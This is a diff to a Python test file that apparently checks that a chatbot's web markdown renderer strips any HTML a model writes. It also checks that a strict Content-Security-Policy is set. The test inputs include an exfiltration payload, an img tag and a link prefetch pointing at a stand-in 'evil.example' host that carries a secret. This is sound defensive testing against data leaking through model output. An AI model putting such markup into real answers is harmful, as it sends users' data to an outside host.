@@ -16,7 +16,7 @@ from transports.slack.app import Manners
 from transports.slack.outgoing.addresses import before_address, find_address
 from transports.slack.outgoing.canvas import Canvas, Tempo
 from transports.slack.outgoing.formatting import Pings
-from transports.web.outgoing.outbound import render_markdown
+from transports.web.outgoing.markdown import render_markdown
 from transports.web.pages import HEADERS
 
 LEAK = "https://evil.example/?d=swordfish"
@@ -141,7 +141,9 @@ async def test_slack_shows_previews_where_the_owner_wants_them(slack: SlackApi, 
 
 @pytest.mark.parametrize("answer", [*ANSWERS, f'<img src="{LEAK}">', f"<link rel=prefetch href={LEAK}>"])
 def test_a_browser_loads_nothing_that_a_model_writes(answer: str) -> None:
-    assert not re.search(r"<(img|link|script|iframe|object|video|audio|style|svg|meta)\b", render_markdown(answer))
+    assert not re.search(
+        r"<(img|link|script|iframe|object|video|audio|style|svg|meta)\b", "".join(render_markdown(answer))
+    )
     policy = HEADERS["Content-Security-Policy"]
     assert "default-src 'none'" in policy
     assert "img-src 'self' blob:;" in policy
